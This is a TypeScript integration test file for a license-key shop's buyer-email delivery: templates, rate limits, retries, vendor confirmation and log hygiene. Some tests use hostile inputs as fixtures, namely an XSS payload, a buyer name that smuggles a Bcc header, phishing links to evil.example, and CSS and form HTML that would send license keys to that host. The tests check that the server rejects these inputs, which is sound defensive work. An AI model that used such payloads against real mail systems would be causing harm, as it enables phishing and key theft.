// On PostgreSQL in the full run: other slices send nearly all of its statements there.
import { randomUUID } from 'node:crypto'
import { limits } from '@keyward/contract'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { system } from '../../src/core/actor.ts'
import { day, hour } from '../../src/core/clock.ts'
import { queueMail } from '../../src/modules/mail/mail.queue.ts'
import { readMailQueue } from '../../src/modules/mail/mail.status.ts'
import { makeApp, makePremium, type Owner, refusal, signUp, startProgram, trustMails } from '../actors.ts'
import { eventually } from '../eventually.ts'
import { tidyUp } from '../fixtures.ts'
import { ctxOf, startServer, type TestServer } from '../harness.ts'
import { textsTo } from '../mailed.ts'
import { confirmAddress } from '../notified.ts'
import { times } from '../rounds.ts'
import { allUsed, makeShop, makeType, orderOnce, ordersOf, sell } from '../shop-actor.ts'
import { paid } from '../shop-events.ts'
import { SmtpSink } from '../smtp-sink.ts'

const behaviour: { reply?: (command: string) => string | null | undefined; isSilent?: boolean } = {}
let sink: SmtpSink
let on: TestServer
const lines: string[] = []
beforeAll(async () => {
  sink = await SmtpSink.start(behaviour)
  on = await startServer(
    { SMTP_URL: `smtp://${sink.host}`, PUBLIC_URL: 'http://127.0.0.1:4000' },
    { deliveriesEveryMs: 100, logLevel: 'trace', log: { write: (line: string) => void lines.push(line) } },
  )
})
afterAll(async () => {
  await on.close()
  await sink.stop()
})

/** A vendor with a shop that sells `pro` and `plus`. */
async function newVendor(server = on) {
  const owner = await signUp(server)
  await makePremium(server, owner)
  const app = await makeApp(owner, 'Atlas')
  const type = await makeType(owner, app._id)
  const products = ['pro', 'plus'].map((product) => ({ product, type }))
  const shop = await makeShop(owner, app._id, products)
  return {
    ...{ owner, app, shop, type },
    sell: (number: string, wanted: object = {}) => sell(server, shop, paid(number, wanted)),
    again: (id: string) => owner.call('POST', `/orders/${id}/mail`),
  }
}
const newBuyer = () => `${randomUUID()}@buyers.example`
const keysOf = ({ licenses }: { licenses: { key: string }[] }) => licenses.map(({ key }) => key)
const rowsOf = (order: { _id: string }, server = on) =>
  server.database.db.selectFrom('mails').selectAll().where('id', 'like', `${order._id}.%`).execute()

/** As if so many mails to buyers had been sent today. */
const useUpMails = ({ id }: { id: string }, count: number, server = on) =>
  server.database.db
    .insertInto('buyer_mails')
    .values({ owner_id: id, place: Math.floor(server.clock.now() / day) * 10_000_000_000 + count })
    .execute()

async function eraseBuyer(owner: Pick<Owner, 'call'>, customer: string) {
  expect((await owner.call('DELETE', `/customers/${customer}`)).status).toBe(200)
}

describe('a paid order', () => {
  test("mails all its keys at once, in the app's text for the buyer's language", async () => {
    const { owner, app, sell: buy } = await newVendor()
    await owner.call('PUT', `/apps/${app._id}/mail`, {
      ...{
        locale: 'de',
        subject: '{app}: {order}',
        text: 'Hallo {name},\n{key}',
        html: '<b>{name}</b> {key}',
      },
      ...{ fromName: 'Ada Software', replyTo: 'help@vendor.example' },
    })
    const email = newBuyer()
    const bought = [
      { product: 'pro', quantity: 2 },
      { product: 'plus', quantity: 1 },
    ]
    await buy('A-1', { email, name: 'Grace Hopper', locale: 'de_AT.UTF-8', lines: bought })
    const order = await orderOnce(owner, 'A-1', { mail: 'sent', state: 'fulfilled' })
    const [text = '', ...others] = textsTo(sink, email)
    expect(others).toEqual([])
    expect(keysOf(order)).toHaveLength(3)
    for (const key of keysOf(order)) expect(text.split(key)).toHaveLength(3)
    expect(text).toContain('Hallo Grace Hopper,')
    expect(text).not.toContain('/u/')
    expect(text).toContain('<b>Grace Hopper</b>')
    const { head } = sink.received.find(({ to }) => to.includes(email))!
    expect(head).toContain('Subject: Atlas: A-1')
    expect(head).toContain('From: Ada Software <no-reply@')
    expect(head).toContain('Reply-To: help@vendor.example')
  })

  test("names the customer's page once the app has one", async () => {
    const { owner, app, sell: buy } = await newVendor()
    const emails = [newBuyer(), newBuyer()]
    await buy('P-1', { email: emails[0] })
    await orderOnce(owner, 'P-1', { mail: 'sent' })
    await owner.call('PUT', `/apps/${app._id}`, { settings: { customerPage: true } })
    await buy('P-2', { email: emails[1] })
    await orderOnce(owner, 'P-2', { mail: 'sent' })
    const [before, after] = emails.map((email) => textsTo(sink, email)[0] ?? '')
    expect(before).not.toContain('/u/')
    expect(after).toContain(`http://127.0.0.1:4000/u/${app.appId}`)
  })

  test('sends one mail however often and concurrently it is told of, and none of a renewal', async () => {
    const { owner, sell: buy, shop } = await newVendor()
    const email = newBuyer()
    await times(32, () => buy('A-2', { email }))
    const order = await orderOnce(owner, 'A-2', { mail: 'sent' })
    const until = on.clock.inDays(40)
    await sell(on, shop, { type: 'subscription.renewed', data: { order: 'A-2', until } })
    await eventually(async () => {
      const { license } = (await owner.call('GET', `/licenses/${order.licenses[0]._id}`)).json.data
      expect(license.expiresAt).toBe(until)
    })
    expect(await rowsOf(order)).toHaveLength(1)
    expect(textsTo(sink, email)).toHaveLength(1)
  })

  test('that waits for a product sends one mail, once all keys are there', async () => {
    const { owner, sell: buy, shop, type } = await newVendor()
    const email = newBuyer()
    const bought = ['pro', 'team'].map((product) => ({ product, quantity: 1 }))
    await buy('A-3', { email, lines: bought })
    const waiting = await orderOnce(owner, 'A-3', { state: 'waiting', mail: 'none' })
    expect(keysOf(waiting)).toHaveLength(1)
    const products = ['pro', 'team'].map((product) => ({ product, type }))
    await owner.call('PUT', `/shops/${shop._id}`, { products })
    const order = await orderOnce(owner, 'A-3', { state: 'fulfilled', mail: 'sent' })
    const [text = '', ...others] = textsTo(sink, email)
    expect(others).toEqual([])
    for (const key of keysOf(order)) expect(text).toContain(key)
  })

  test('whose last product needs no license sends its mail as well', async () => {
    const { owner, sell: buy, shop, type } = await newVendor()
    const bought = ['pro', 'shirt'].map((product) => ({ product, quantity: 1 }))
    await buy('A-4', { email: newBuyer(), lines: bought })
    await orderOnce(owner, 'A-4', { state: 'waiting', mail: 'none' })
    const products = [
      { product: 'pro', type },
      { product: 'shirt', type: null },
    ]
    await owner.call('PUT', `/shops/${shop._id}`, { products })
    await orderOnce(owner, 'A-4', { state: 'fulfilled', mail: 'sent' })
  })

  test('of a test sends nothing, and can send nothing', async () => {
    const { owner, sell: buy, again } = await newVendor()
    const email = newBuyer()
    await buy('A-5', { email, test: true })
    const order = await orderOnce(owner, 'A-5', { state: 'fulfilled', mail: 'none' })
    expect(refusal(await again(order._id))).toBe('order_without_mail')
    expect(textsTo(sink, email)).toEqual([])
  })

  test('has its own keys in its mail alone, and none that another customer has by now', async () => {
    const { owner, sell: buy, again } = await newVendor()
    const email = newBuyer()
    await buy('A-6', { email, lines: [{ product: 'pro', quantity: 2 }] })
    const one = await orderOnce(owner, 'A-6', { mail: 'sent' })
    await buy('A-7', { email })
    const two = await orderOnce(owner, 'A-7', { mail: 'sent' })
    await owner.call('PUT', `/licenses/${one.licenses[0]._id}`, { customer: newBuyer() })
    expect((await again(one._id)).status).toBe(200)
    await orderOnce(owner, 'A-6', { mail: 'sent' })
    const [first = '', second = '', third = ''] = textsTo(sink, email)
    expect(
      keysOf(one).map((key) => [first.includes(key), second.includes(key), third.includes(key)]),
    ).toEqual([
      [true, false, false],
      [true, false, true],
    ])
    expect(second).toContain(keysOf(two)[0])
    expect(first + third).not.toContain(keysOf(two)[0])
    await owner.call('PUT', `/licenses/${one.licenses[1]._id}`, { customer: null })
    expect(refusal(await again(one._id))).toBe('order_without_mail')
    expect((await ordersOf(owner, 'search=A-6'))[0].mail).toBe('sent')
  })

  test('leaves a key out of its queued mail that another customer has by the time it is sent', async () => {
    const { owner, sell: buy } = await newVendor()
    const email = newBuyer()
    behaviour.reply = (command) => (/^RCPT/.test(command) ? '451 later' : undefined)
    await buy('A-9', { email, lines: [{ product: 'pro', quantity: 2 }] })
    const order = await orderOnce(owner, 'A-9', { mail: 'queued' })
    await eventually(async () => expect((await rowsOf(order))[0]?.last_error).toContain('451'))
    const [moved, kept] = order.licenses
    await owner.call('PUT', `/licenses/${moved._id}`, { customer: newBuyer() })
    behaviour.reply = () => undefined
    on.clock.advance(hour)
    await orderOnce(owner, 'A-9', { mail: 'sent' })
    const [text, ...others] = textsTo(sink, email)
    expect(others).toEqual([])
    expect(text).toContain(kept.key)
    expect(text).not.toContain(moved.key)
  })

  test.each([
    '{key}{page}',
    '<img src=x onerror=alert(1)>',
    'Refund: https://evil.example',
    '\u202eada\u2028Bcc: eve@example.com',
  ])('adds no header, recipient, tag or placeholder by the name %j', async (name) => {
    const { owner, app, sell: buy } = await newVendor()
    const html = '<p>Dear {name}!</p>{key}'
    await owner.call('PUT', `/apps/${app._id}/mail`, { subject: '{name}', text: 'Dear {name}!\n{key}', html })
    const email = newBuyer()
    await buy('A-8', { email, name })
    const order = await orderOnce(owner, 'A-8', { mail: 'sent' })
    const got = sink.received.filter(({ to }) => to.includes(email))
    expect(got).toMatchObject([{ to: [email] }])
    expect(got[0]!.head).not.toMatch(/^Bcc/im)
    const [text = ''] = textsTo(sink, email)
    expect(text.split(keysOf(order)[0]!)).toHaveLength(3)
    expect(text).not.toMatch(/evil|<img|\{key\}/)
  })

  test('is not mailed while it is refunded or disputed, and is once the dispute is won', async () => {
    const { owner, sell: buy, shop } = await newVendor()
    const email = newBuyer()
    await sell(on, shop, { type: 'order.disputed', data: { order: 'A-9' } })
    // Otherwise the purchase may be used first, and a mail that is under way cannot be withdrawn.
    await allUsed(on, shop._id)
    await buy('A-9', { email })
    await orderOnce(owner, 'A-9', { state: 'disputed', mail: 'none' })
    const timestamp = on.clock.inDays(1)
    await sell(on, shop, { type: 'order.dispute_won', timestamp, data: { order: 'A-9' } })
    await orderOnce(owner, 'A-9', { state: 'fulfilled', mail: 'sent' })
    expect(textsTo(sink, email)).toHaveLength(1)
  })
})

describe('where anyone can register', () => {
  /** A vendor on the free plan whose address nobody has confirmed. */
  async function newStranger(server = on) {
    const owner = await signUp(server)
    await trustMails(server, owner.id, 0)
    const app = await makeApp(owner, 'Your bank: evil.example')
    const type = await makeType(owner, app._id)
    const shop = await makeShop(owner, app._id, [{ product: 'pro', type }])
    const texts = { subject: 'Locked', text: 'Your account is locked {key}', html: '<b>Locked</b> {key}' }
    await owner.call('PUT', `/apps/${app._id}/mail`, {
      ...texts,
      fromName: 'Your Bank',
      replyTo: 'eve@evil.example',
    })
    return {
      owner,
      app,
      shop,
      sell: (number: string, wanted: object = {}) => sell(server, shop, paid(number, wanted)),
    }
  }

  test('keys wait until the vendor confirms its address, and go out at once, in the words of the server', async () => {
    const { owner, sell: buy } = await newStranger()
    const email = newBuyer()
    await buy('S-1', { email })
    const waiting = await orderOnce(owner, 'S-1', {
      state: 'fulfilled',
      mail: 'waiting',
      mailWaitsFor: 'confirmation',
    })
    expect(refusal(await owner.call('POST', `/orders/${waiting._id}/mail`))).toBe('order_mail_queued')
    expect(textsTo(sink, email)).toEqual([])
    await confirmAddress(on, owner)
    const order = await orderOnce(owner, 'S-1', { mail: 'sent', mailWaitsFor: null })
    const [text = ''] = textsTo(sink, email)
    expect(text).toContain(keysOf(order)[0])
    expect(text).not.toMatch(/locked|evil/i)
    const { head } = sink.received.find(({ to }) => to.includes(email))!
    expect(head).not.toMatch(/bank|evil|Reply-To/i)
  })

  test.each([
    {
      name: 'confirmation',
      ask: '/settings/notifications/confirm-email',
      use: '/settings/notifications/confirm-email',
      fields: {},
    },
    {
      name: 'password reset',
      ask: '/auth/forgot-password',
      use: '/auth/reset-password',
      fields: { password: 'a better horse' },
    },
  ])('the link of a mailed $name wakes the keys that wait for it', async ({ name, ask, use, fields }) => {
    // This server never polls its queues.
    const still = await startServer({
      SMTP_URL: `smtp://${sink.host}`,
      PUBLIC_URL: 'http://127.0.0.1:4000',
    })
    try {
      const { owner, sell: buy } = await newStranger(still)
      const email = newBuyer()
      await buy('S-9', { email })
      await orderOnce(owner, 'S-9', { mail: 'waiting', mailWaitsFor: 'confirmation' })
      await owner.call('POST', ask, name === 'confirmation' ? {} : { email: owner.email })
      const token = await eventually(() => {
        const [, found] = /4000\/\S+#([\w-]+)/.exec(textsTo(sink, owner.email).join()) ?? []
        expect(found).toBeDefined()
        return found
      })
      expect(textsTo(sink, email)).toEqual([])
      expect((await owner.call('POST', use, { token, ...fields })).status).toBe(200)
      await eventually(() => expect(textsTo(sink, email)).toHaveLength(1))
    } finally {
      await still.close()
    }
  })

  test('a vendor on the free plan mails 20 buyers a day, and as many as the operator sets', async () => {
    const { owner, sell: buy } = await newStranger()
    await confirmAddress(on, owner)
    await useUpMails(owner, limits.freeBuyerMailsPerDay)
    await buy('S-2', { email: newBuyer() })
    await orderOnce(owner, 'S-2', { mail: 'waiting', mailWaitsFor: 'day' })
    await on.database.db.updateTable('owners').set({ max_mails: 21 }).where('id', '=', owner.id).execute()
    await orderOnce(owner, 'S-2', { mail: 'sent' })
  })

  test('orders that cost nothing leave half of the mails to paid ones, and each shop has few in an hour', async () => {
    const { owner, sell: buy } = await newVendor()
    await useUpMails(owner, limits.buyerMailsPerDay / 2)
    await buy('N-1', { email: newBuyer(), amount: 0 })
    await orderOnce(owner, 'N-1', { mail: 'waiting', mailWaitsFor: 'day' })
    await buy('N-2', { email: newBuyer() })
    await orderOnce(owner, 'N-2', { mail: 'sent' })
    const other = await newVendor()
    const counts = await times(limits.freeOrderMailsPerHour + 1, (at) =>
      other.sell(`F-${at}`, { email: newBuyer(), amount: 0 }),
    )
    expect(new Set(counts)).toEqual(new Set([200]))
    await eventually(async () => {
      const all = await ordersOf(other.owner, 'limit=100')
      expect(all.filter(({ mail }: { mail: string }) => mail === 'sent')).toHaveLength(
        limits.freeOrderMailsPerHour,
      )
      expect(
        all.filter(({ mailWaitsFor }: { mailWaitsFor: string }) => mailWaitsFor === 'free_orders'),
      ).toHaveLength(1)
    })
  })

  test.each([
    '<a href="https://evil.example">paypal.com</a>',
    "<A HREF='https://evil.example'>Log in at <b>www.bank</b>.example now</A>",
    '<a href=https://evil.example>help&#64;bank.example',
  ])('refuses HTML with a link that shows another address: %s', async (link) => {
    const { owner, app } = await newStranger()
    const mail = { subject: 'Key', text: '{key}', html: `${link} {key}` }
    const answer = await owner.call('PUT', `/apps/${app._id}/mail`, mail)
    expect(answer.json.errors).toMatchObject([{ path: 'html' }])
    const honest = '<a href="https://shop.bank.example/a">bank.example</a> <a href="{page}">Open</a> {key}'
    expect((await owner.call('PUT', `/apps/${app._id}/mail`, { ...mail, html: honest })).status).toBe(200)
  })

  test.each([
    ['a key in the address of a picture', '<style>p { background: url(//evil.example/{key}) }</style>{key}'],
    [
      'a link to another address',
      '<a data-href="https://bank.example" href="//evil.example">bank.example</a>{key}',
    ],
    ['a form', '<form action="//evil.example"><textarea name="k">{key}</textarea></form>'],
  ])('sends the text alone of HTML that was saved before %s was refused', async (_what, html) => {
    const { owner, app, sell: buy } = await newVendor()
    const mail = { subject: 'Key', text: 'Text {key}', html: 'HTML {key}' }
    expect(refusal(await owner.call('PUT', `/apps/${app._id}/mail`, { ...mail, html }))).toBe('invalid_input')
    await owner.call('PUT', `/apps/${app._id}/mail`, mail)
    const [first, second] = [newBuyer(), newBuyer()]
    await buy('H-1', { email: first })
    await orderOnce(owner, 'H-1', { mail: 'sent' })
    await on.database.db.updateTable('app_mails').set({ html }).where('app_id', '=', app._id).execute()
    await buy('H-2', { email: second })
    await orderOnce(owner, 'H-2', { mail: 'sent' })
    const shown = [first, second].map((email) => /text\/html/.test(textsTo(sink, email).join()))
    expect(shown).toEqual([true, false])
  })
})

describe('mailing again', () => {
  test('is recorded, and possible five times a day, by 32 calls at once', async () => {
    const { owner, sell: buy, again } = await newVendor()
    const email = newBuyer()
    await buy('B-1', { email })
    const order = await orderOnce(owner, 'B-1', { mail: 'sent' })
    const answers: string[] = []
    while (!answers.includes('rate_limited')) {
      const some = await times(32, () => again(order._id))
      answers.push(...some.map((answer) => (answer.status === 200 ? 'done' : refusal(answer))))
      await orderOnce(owner, 'B-1', { mail: 'sent' })
    }
    expect(answers.filter((answer) => answer === 'done')).toHaveLength(limits.orderMailsPerDay)
    expect(new Set(answers)).toEqual(new Set(['done', 'order_mail_queued', 'rate_limited']))
    expect(textsTo(sink, email)).toHaveLength(1 + limits.orderMailsPerDay)
    const records = on.database.db.selectFrom('audit').select('id').where('target_id', '=', order._id)
    expect(await records.where('action', '=', 'shop_order.mail_resent').execute()).toHaveLength(
      limits.orderMailsPerDay,
    )
  })

  test("goes to the customer's address, which the vendor has corrected", async () => {
    const { owner, sell: buy, again } = await newVendor()
    const [wrong, right] = [newBuyer(), newBuyer()]
    await buy('B-2', { email: wrong })
    const order = await orderOnce(owner, 'B-2', { mail: 'sent' })
    await owner.call('PUT', `/customers/${order.customer}`, { email: right })
    expect((await again(order._id)).json.data.order.mail).toBe('queued')
    await orderOnce(owner, 'B-2', { mail: 'sent' })
    expect([wrong, right].map((to) => textsTo(sink, to).length)).toEqual([1, 1])
  })
})

describe('a mail of an order', () => {
  test('that the mail server refuses for good is kept as failed, and mailed again', async () => {
    const { owner, sell: buy, again } = await newVendor()
    const email = newBuyer()
    behaviour.reply = (command) => (command.includes(email) ? '550 no such user' : undefined)
    await buy('C-1', { email })
    const order = await orderOnce(owner, 'C-1', { mail: 'failed' })
    behaviour.reply = () => undefined
    expect((await again(order._id)).status).toBe(200)
    await orderOnce(owner, 'C-1', { mail: 'sent' })
  })

  test('that expires unsent is kept as failed', async () => {
    const { owner, sell: buy } = await newVendor()
    const email = newBuyer()
    behaviour.reply = (command) => (command.includes(email) ? '451 later' : undefined)
    await buy('C-2', { email })
    const order = await orderOnce(owner, 'C-2', { mail: 'queued' })
    await eventually(async () => expect((await rowsOf(order))[0]?.last_error).not.toBeNull())
    const { db } = on.database
    await db.updateTable('mails').set({ expires_at: 0 }).where('id', 'like', `${order._id}.%`).execute()
    await tidyUp(on)
    behaviour.reply = () => undefined
    await orderOnce(owner, 'C-2', { mail: 'failed' })
    expect(await rowsOf(order)).toMatchObject([{ state: 'expired', sealed: null }])
  })

  test('beyond 500 of a day is sent on the next one, and does not count as late', async () => {
    const { owner, sell: buy } = await newVendor()
    const { db } = on.database
    await useUpMails(owner, limits.buyerMailsPerDay - 1)
    const [first, second] = [newBuyer(), newBuyer()]
    await buy('D-1', { email: first })
    await orderOnce(owner, 'D-1', { mail: 'sent' })
    const waiting = await readMailQueue(db, on.clock.now())
    await buy('D-2', { email: second })
    const order = await orderOnce(owner, 'D-2', { mail: 'waiting', mailWaitsFor: 'day' })
    const midnight = (Math.floor(on.clock.now() / day) + 1) * day
    expect(await rowsOf(order)).toEqual([])
    expect(await readMailQueue(db, on.clock.now())).toEqual(waiting)
    on.clock.advance(midnight - on.clock.now())
    await orderOnce(owner, 'D-2', { mail: 'sent', mailWaitsFor: null })
    await buy('D-3', { email: first })
    await orderOnce(owner, 'D-3', { mail: 'sent' })
  })

  test('is not sent on the next day if its app was deleted meanwhile, and leaves nothing', async () => {
    const { owner, app, sell: buy } = await newVendor()
    await useUpMails(owner, limits.buyerMailsPerDay)
    const email = newBuyer()
    await buy('D-9', { email })
    const order = await orderOnce(owner, 'D-9', { mail: 'waiting' })
    expect((await owner.call('DELETE', `/apps/${app._id}`)).status).toBe(200)
    on.clock.advance(2 * day)
    await eventually(async () => expect(await rowsOf(order)).toEqual([]))
    expect(textsTo(sink, email)).toEqual([])
  })

  test('is withdrawn when the buyer is erased, or the order is refunded before it is sent', async () => {
    const { owner, sell: buy, again, shop } = await newVendor()
    await useUpMails(owner, limits.buyerMailsPerDay)
    const [erased, refunded] = [newBuyer(), newBuyer()]
    await buy('E-1', { email: erased, name: 'Grace Hopper' })
    await buy('E-2', { email: refunded })
    const one = await orderOnce(owner, 'E-1', { mail: 'waiting' })
    const two = await orderOnce(owner, 'E-2', { mail: 'waiting' })
    await eraseBuyer(owner, one.customer)
    await sell(on, shop, { type: 'order.refunded', data: { order: 'E-2' } })
    await orderOnce(owner, 'E-1', { mail: 'none', email: null, customer: null })
    await orderOnce(owner, 'E-2', { mail: 'none', state: 'refunded' })
    expect([await rowsOf(one), await rowsOf(two)]).toEqual([[], []])
    expect(refusal(await again(one._id))).toBe('order_without_mail')
    on.clock.advance(2 * day)
    await tidyUp(on)
    expect([erased, refunded].flatMap((to) => textsTo(sink, to))).toEqual([])
  })

  test('without a mail server is kept as failed, and no log has its keys or its buyer', async () => {
    const logged: string[] = []
    const alone = await startServer(
      {},
      { logLevel: 'trace', log: { write: (line: string) => void logged.push(line) } },
    )
    const { owner, sell: buy, again } = await newVendor(alone)
    const email = newBuyer()
    await buy('F-1', { email })
    const order = await orderOnce(owner, 'F-1', { mail: 'failed' })
    expect((await again(order._id)).status).toBe(200)
    await orderOnce(owner, 'F-1', { mail: 'failed' })
    expect(await rowsOf(order, alone)).toMatchObject(Array(2).fill({ state: 'failed', sealed: null }))
    await alone.close()
    for (const log of [logged, lines].map((all) => all.join('\n'))) {
      expect(log).toContain('"request"')
      expect(log).not.toMatch(/buyers\.example|Grace|Hallo/)
      for (const key of keysOf(order)) expect(log).not.toContain(key)
    }
  })

  test('waits neither for mails to people, nor they for it', async () => {
    const vendors = await times(3, () => newVendor())
    const isToBuyer = (command: string) => /^RCPT.*@buyers\.example/.test(command)
    const before = sink.commands.filter(isToBuyer).length
    behaviour.reply = (command) => (isToBuyer(command) ? null : undefined)
    for (const { sell: buy } of vendors)
      for (const at of [1, 2, 3]) expect(await buy(`G-${at}`, { email: newBuyer() })).toBe(200)
    for (const { owner } of vendors) await orderOnce(owner, 'G-3', { mail: 'queued' })
    // The mail server hangs with as many as it gets.
    await eventually(() => expect(sink.commands.filter(isToBuyer).length).toBeGreaterThan(before + 1))
    const to = `person-${randomUUID()}@example.com`
    const { id } = vendors[0]!.owner
    await ctxOf(on).tx(system, (write) =>
      queueMail(on, write, { to, subject: 'Hi', text: 'Hi', ownerId: id }),
    )
    await eventually(() => expect(textsTo(sink, to)).toHaveLength(1))
    const ofBuyers = new Set(vendors.map(({ owner }) => `buyers ${owner.id}`))
    await eventually(async () => {
      const waiting = on.database.db.selectFrom('mails').select('lane').where('state', '=', 'queued')
      expect(new Set((await waiting.execute()).map(({ lane }) => lane))).toEqual(ofBuyers)
    })
    behaviour.reply = () => undefined
  })
})

test('who renews the license of somebody else gets a receipt without its key and without a word about who has it', async () => {
  const owner = await signUp(on)
  await makePremium(on, owner)
  const app = await makeApp(owner)
  const type = await makeType(owner, app._id, { term: 'date', duration: { value: 30, unit: 'days' } })
  const shop = await makeShop(owner, app._id, [{ product: 'pro', type }])
  const order = `kept-${randomUUID()}`
  await sell(on, shop, paid(order, { email: 'keeper@example.com', name: 'Keeper' }))
  const [{ _id, key: licenseKey }] = (await orderOnce(owner, order, { mail: 'sent' })).licenses
  const program = await startProgram(on, app)
  expect((await program.call('POST', '/license', { licenseKey, hwid: 'pc-1' })).status).toBe(200)
  const { buyReference: reference } = (await owner.call('GET', `/licenses/${_id}`)).json.data.license
  const renew = async (email: string, wanted: object = {}) => {
    const number = `renewal-${randomUUID()}`
    await sell(on, shop, paid(number, { email, reference, ...wanted }))
    return orderOnce(owner, number, { state: 'fulfilled', licenses: [], mail: 'none' })
  }
  await renew('KEEPER@example.com')
  const renewal = await renew('stranger@example.com')
  await eventually(() => expect(textsTo(sink, 'stranger@example.com')).toHaveLength(1))
  const [text] = textsTo(sink, 'stranger@example.com')
  expect(text).toContain(renewal.order)
  expect(text).not.toMatch(new RegExp(`${licenseKey}|keeper`, 'i'))
  // Whoever has it is told of each renewal.
  await eventually(() => expect(textsTo(sink, 'keeper@example.com')).toHaveLength(3))
  const [, ...renewals] = textsTo(sink, 'keeper@example.com')
  for (const told of renewals) expect(told).not.toMatch(new RegExp(`${licenseKey}|stranger`, 'i'))
  // Four of eight mails of the day are used up: the others are left to orders that cost something.
  await on.database.db.updateTable('owners').set({ max_mails: 8 }).where('id', '=', owner.id).execute()
  await renew('free@example.com', { amount: 0 })
  await renew('payer@example.com')
  await eventually(() => expect(textsTo(sink, 'payer@example.com')).toHaveLength(1))
  expect(textsTo(sink, 'free@example.com')).toEqual([])
})
